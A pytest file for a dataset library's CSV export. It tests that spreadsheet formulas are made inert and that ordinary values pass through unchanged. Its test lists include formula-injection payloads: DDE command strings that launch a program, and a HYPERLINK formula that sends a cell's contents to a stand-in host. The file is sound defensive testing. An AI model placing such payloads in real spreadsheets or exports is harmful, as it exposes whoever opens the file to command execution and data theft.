"""What a spreadsheet would compute is made inert where one may open it, and honest words stay as they are."""

from __future__ import annotations

import codecs
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from labkit.datasets.csv_export import inert, is_formula
from labkit.datasets.dataset import Dataset
from labkit.datasets.record import QA, Evidence
from labkit.errors import DatasetError

FORMULAS = [
    "=1+1", '=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(A1:A9)", "+A1", "-A1", "-SUM(1)", "=cmd|'/C calc'!A0",
    "-5+cmd|'/C calc'!A0", "+1(A1)", "-2*3", "-1-1", "-1 -1", "+1=2", "-5!A1", '-5&"x"',
    "\t=1+1", "\r=1+1", "\n=1", "\tx",
    "  =1+1", "\u200b=1+1", "\ufeff@x", "\x00=1", "\xa0=1", "＝1+1", "＋1", "－1", "＠x", "-", "+",
    "=", "- Open the lid.",
    "-5 °C\n=1+1", "-5,=1+1", "-5;+A1", "-1/0+A1", "-5 {1}", "-5 [x]", "-5 %!", "+1^9", "-5 #REF", "-5\t=1"]
HONEST = [
    "", "5 °C", "-5", "-5 °C", "+49 30 1234567", "-0.5 mm", "-12,000", "-5 °C to +8 °C", "-20 V", "+1.5 %", "-3 m/s",
    "-40 °C in winter and +8 °C in summer.", "+3 €", "-7 度", "−5 °C", "1=1", "a@b.example", "The sum is =1+1.",
    "What is -5 °C?", "a-b", "(=1)", "'=1+1", "https://x.example/?a=b", "最低 -5 °C", "–5 °C", "* item", "|a|", "%A"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_computed_becomes_text(text: str) -> None:
    assert is_formula(text) and inert(text) == f"'{text}"


@pytest.mark.parametrize("text", HONEST)
def test_honest_words_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


@given(st.text(alphabet="=+-@\t\r\n 0159.,;:|!()'\"&A1c°C％＝＋"))
def test_nothing_that_begins_like_a_formula_gets_through_but_a_quantity(text: str) -> None:
    kept = inert(text)
    assert kept.removeprefix("'") == text.removeprefix("'") and inert(kept) == kept
    first = kept.lstrip()[:1]
    assert first not in ("=", "@", "＝", "＋") and kept[:1] not in ("\t", "\r", "\n")
    if first in ("+", "-"):
        assert not set(kept) & set("=@|!()'\"&;\t\r\n")


def hostile() -> Dataset:
    return Dataset([
        QA(question="=1+1", answer="@SUM(A1)", qa_type="short",
           evidence=Evidence(text='+HYPERLINK("http://x.example")', pages=[1], start=0, end=3)),
        QA(question="How cold may it get?", answer="-5 °C", qa_type="short"),
        QA(question="x;=1+1", answer="one\n=1+1,\"two\"\ud83d", qa_type="long")])


def test_a_table_keeps_its_words_and_is_inert_if_asked() -> None:
    assert hostile().to_pandas().iloc[0].tolist()[:2] == ["=1+1", "@SUM(A1)"]
    frame = hostile().to_pandas(safe=True)
    assert frame.iloc[0].tolist()[:3] == ["'=1+1", "'@SUM(A1)", "'+HYPERLINK(\"http://x.example\")"]
    assert frame.iloc[1].tolist()[:2] == ["How cold may it get?", "-5 °C"]
    rows = list(csv.reader(io.StringIO(frame.head(2).to_csv())))
    assert not any(is_formula(cell) for row in rows for cell in row)


def test_a_csv_file_is_inert_whatever_separates_its_cells(tmp_path: Path) -> None:
    path = hostile().to_csv(tmp_path / "new" / "pairs.csv")
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    text = data.decode("utf-8-sig")
    for delimiter in ",;\t":
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        assert not any(is_formula(cell) for row in rows for cell in row), delimiter
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["answer"] for row in rows] == ["'@SUM(A1)", "-5 °C", 'one\n\'=1+1,"two"\ufffd']
    with pytest.raises(DatasetError, match="Is a directory"):
        hostile().to_csv(tmp_path)


def test_the_json_lines_keep_every_word(tmp_path: Path) -> None:
    dataset = Dataset(hostile().records[:2])
    for write in (dataset.save, dataset.train, dataset.rag, dataset.eval):
        path = write(tmp_path / f"{write.__name__}.jsonl")
        assert '"=1+1"' in (text := path.read_text(encoding="utf-8-sig")) and "\"'" not in text
